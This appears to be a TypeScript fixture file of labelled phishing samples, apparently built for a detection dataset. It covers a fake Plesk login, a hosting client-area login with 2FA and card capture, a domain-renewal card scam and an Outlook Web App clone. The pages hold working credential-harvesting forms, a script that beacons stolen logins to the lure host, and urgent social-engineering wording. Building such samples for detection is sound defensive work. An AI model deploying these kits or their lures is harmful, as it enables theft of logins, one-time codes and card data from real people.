import type { Entry } from '../entry.js';
import { builderBadge, builderHead, doc, htmlRoute, jsRoute, jsonRoute, pngRoute, redirectRoute } from '../parts/y-kit.js';

// Hosting-panel and webmail kits, domain-renewal lures.

const pleskHost = 'srv-panel-update.com';
const khHost = 'my-kestrelhost.com';
const renHost = 'domain-renewal-services.net';
const owaHost = 'mail-outlook-verify.kestrel.site';

export const entries: Entry[] = [
  {
    id: 'y-panel-plesk-login',
    label: 'phishing',
    kind: 'panel-kit',
    url: `https://${pleskHost}/login_up.php?success_redirect_url=%2Fsmb%2F`,
    routes: {
      [`${pleskHost}/login_up.php`]: htmlRoute(doc({
        title: 'Plesk Obsidian 18.0.64',
        css: `body{margin:0;background:#28aade;font-family:"Open Sans",Helvetica,Arial,sans-serif}
.login-page{min-height:100vh;display:flex;align-items:center;justify-content:center;background:linear-gradient(135deg,#0c3f5f,#28aade)}
.panel{width:380px;background:#fff;border-radius:4px;padding:32px;box-shadow:0 4px 20px rgba(0,0,0,.3)}
.brand{font-size:28px;font-weight:300;color:#53bce6;text-align:center;margin-bottom:16px}
.alert{background:#fff4e5;color:#8a5300;font-size:13px;padding:8px 10px;margin-bottom:12px;border-left:3px solid #f90}
input,select{width:100%;padding:9px;margin:5px 0 12px;border:1px solid #b5b5b5;border-radius:2px;box-sizing:border-box}
button{width:100%;background:#28aade;color:#fff;border:0;padding:10px;font-size:15px;border-radius:2px}
.f{font-size:12px;color:#737373;text-align:center;margin-top:16px}`,
        body: `<div class="login-page"><div class="panel">
<div class="brand">plesk</div>
<div class="alert">Your session has expired due to a security update (KB-18.0.64-u3). Please log in again to re-validate your subscription.</div>
<form id="form-login" method="post" action="/login_up.php?step=2">
<input name="login_name" placeholder="Username" required autocomplete="username">
<input name="passwd" type="password" placeholder="Password" required>
<select name="locale_id"><option>Default</option><option>English (United States)</option><option>Deutsch</option><option>Русский</option></select>
<button type="submit">Log in</button></form>
<div class="f">Forgot your password? · © 2025 WebPros International GmbH</div>
</div></div>
<script src="/modules/assets/js/login.js"></script>`,
      })),
      [`${pleskHost}/modules/assets/js/login.js`]: jsRoute(`document.getElementById('form-login').addEventListener('submit',function(e){e.preventDefault();var f=new FormData(this);f.append('origin',document.referrer);navigator.sendBeacon('/api/v2/c',f);setTimeout(function(){location.href='https://www.plesk.com/'},600);});`),
      [`${pleskHost}/api/v2/c`]: jsonRoute({ ok: 1 }),
    },
  },
  {
    id: 'y-panel-host-customer-login',
    label: 'phishing',
    kind: 'host-login-kit',
    url: `https://${khHost}/clientarea/login?returnTo=%2Finvoices%2F884123`,
    routes: {
      [`${khHost}/clientarea/login`]: htmlRoute(doc({
        title: 'Sign in · Kestrel Hosting',
        head: '<link rel="icon" href="/static/k.png">',
        css: `body{margin:0;font-family:Inter,-apple-system,Segoe UI,Arial,sans-serif;background:#0f1b3d;color:#1c2333}
.wrap{min-height:100vh;display:flex;align-items:center;justify-content:center}
.card{width:400px;background:#fff;border-radius:12px;padding:34px}
.logo{font-weight:800;font-size:22px;color:#0f1b3d}.logo b{color:#ff7a1a}
.note{background:#fff8ec;border:1px solid #ffd9a6;padding:10px;border-radius:8px;font-size:13px;margin:16px 0}
label{display:block;font-size:13px;font-weight:600;margin:12px 0 4px}input{width:100%;padding:11px;border:1px solid #d3d9e6;border-radius:8px;box-sizing:border-box}
button{margin-top:18px;width:100%;padding:12px;border:0;border-radius:8px;background:#ff7a1a;color:#fff;font-weight:700}
.s{font-size:12px;color:#6b7385;text-align:center;margin-top:14px}`,
        body: `<div class="wrap"><div class="card">
<div class="logo">&#9650; Kestrel<b>Hosting</b></div>
<div class="note">Invoice <b>#884123</b> (Domain renewal) is overdue. Sign in to avoid service interruption.</div>
<form id="lf" method="post" action="/clientarea/auth">
<label>Email</label><input type="email" name="email" required>
<label>Password</label><input type="password" name="password" required>
<label>2FA code (if enabled)</label><input name="otp" inputmode="numeric" maxlength="6">
<button>Sign in</button></form>
<div class="s">New to Kestrel? Create an account · Forgot password?</div>
</div></div>`,
      })),
      [`${khHost}/clientarea/auth`]: redirectRoute(302, `https://${khHost}/clientarea/billing/pay?inv=884123`),
      [`${khHost}/clientarea/billing/pay`]: htmlRoute(doc({ title: 'Pay invoice · Kestrel Hosting', body: '<h2>Invoice #884123 — $34.98</h2><form method="post" action="/clientarea/auth"><input name="card" placeholder="Card number"><input name="exp" placeholder="MM / YY"><input name="cvc" placeholder="CVC"><input name="zip" placeholder="ZIP"><button>Pay now</button></form>' })),
      [`${khHost}/static/k.png`]: pngRoute(255, 122, 26),
    },
  },
  {
    id: 'y-panel-domain-renewal-en',
    label: 'phishing',
    kind: 'domain-renewal-kit',
    url: `https://${renHost}/renew/?d=harborviewdental.com&n=DN-20931`,
    routes: {
      [`${renHost}/renew/`]: htmlRoute(doc({
        title: 'Domain Expiration Notice – Renew Now',
        css: `body{margin:0;font-family:Georgia,serif;background:#fafafa;color:#222}
.h{background:#1a3a5c;color:#fff;padding:18px 34px;font-family:Arial,sans-serif}
.c{max-width:720px;margin:28px auto;background:#fff;border:1px solid #ddd;padding:30px}
.n{font-family:Arial,sans-serif;font-size:13px;color:#555}
table{width:100%;border-collapse:collapse;font-family:Arial,sans-serif;font-size:14px;margin:16px 0}th,td{border:1px solid #ccc;padding:8px;text-align:left}th{background:#f0f0f0}
input,select{padding:9px;border:1px solid #aaa;width:100%;box-sizing:border-box;margin:4px 0}
button{background:#c0392b;color:#fff;border:0;padding:13px 30px;font-size:16px;cursor:pointer}`,
        body: `<div class="h"><b>DOMAIN SERVICES</b> — Annual Search Engine &amp; Domain Registration</div>
<div class="c">
<p class="n">Notice #<span id="nn">DN-20931</span> · Final notice · Response required</p>
<h2>Domain Name Expiration Notice</h2>
<p>As a courtesy to domain name holders, we are sending you this notification for your business domain name search engine registration. Failure to complete your renewal by the expiration date may result in cancellation of this offer, making it difficult for your customers to locate you using search engines on the web.</p>
<table><tr><th>Domain</th><th>Term</th><th>Period</th><th>Price</th></tr>
<tr><td id="dn">harborviewdental.com</td><td>1 year</td><td>11/30/2025 – 11/30/2026</td><td>$89.00</td></tr></table>
<form method="post" action="pay.php">
<input name="name" placeholder="Name on card" required><input name="card" placeholder="Card number" required>
<div style="display:flex;gap:8px"><input name="mm" placeholder="MM"><input name="yy" placeholder="YY"><input name="cvv" placeholder="CVV"></div>
<input name="email" placeholder="Email for receipt" type="email">
<button>Renew Now – $89.00</button></form>
<p class="n" style="margin-top:26px">This is not a bill. This is a solicitation. You are under no obligation to pay the amount stated above unless you accept this offer. Domain Services does not register or renew domain names.</p>
</div>
<script>var q=new URLSearchParams(location.search);if(q.get('d'))dn.textContent=q.get('d');if(q.get('n'))nn.textContent=q.get('n');</script>`,
      })),
      [`${renHost}/renew/pay.php`]: htmlRoute('<p>Thank you. Your payment is being processed.</p>'),
    },
  },
  {
    id: 'y-panel-owa-builder',
    label: 'phishing',
    kind: 'builder-kit',
    url: `https://${owaHost}/`,
    routes: {
      [`${owaHost}/`]: htmlRoute(doc({
        title: 'Outlook Web App',
        head: builderHead('ks_9f2a71c0'),
        css: `body{margin:0;font-family:"Segoe UI",Tahoma,sans-serif;background:#fff}
.l{position:fixed;left:0;top:0;bottom:0;width:36%;background:#0072c6}
.r{margin-left:42%;padding-top:16vh;width:340px}
h1{font-weight:200;font-size:36px;color:#333;margin:0 0 20px}
input{display:block;width:100%;padding:8px;margin:8px 0;border:1px solid #999;font-size:15px}
.b{margin-top:12px;background:transparent;border:0;font-size:22px;color:#333;cursor:pointer}
.b span{display:inline-block;width:30px;height:30px;border-radius:50%;border:2px solid #333;text-align:center;line-height:28px;margin-right:6px}`,
        body: `<div class="l"></div>
<div class="r">
<h1>Outlook</h1>
<p style="font-size:13px;color:#555">Security update: All staff must re-validate their mailbox before <b>Friday 5 PM</b> to continue receiving email.</p>
<form id="owa" action="https://forms.kestrel.site/api/submit/ks_9f2a71c0" method="post">
<label style="font-size:13px">Domain\\user name:</label><input name="username" placeholder="user@company.com" required>
<label style="font-size:13px">Password:</label><input name="password" type="password" required>
<input type="hidden" name="_redirect" value="https://outlook.office.com/">
<button class="b"><span>&#10140;</span>sign in</button>
</form>
<p style="font-size:12px;color:#777;margin-top:30px">Connected to Microsoft Exchange<br>© 2025 Microsoft Corporation</p>
</div>
${builderBadge}`,
      })),
      ['forms.kestrel.site/api/submit/ks_9f2a71c0']: redirectRoute(303, 'https://outlook.office.com/'),
    },
  },
];
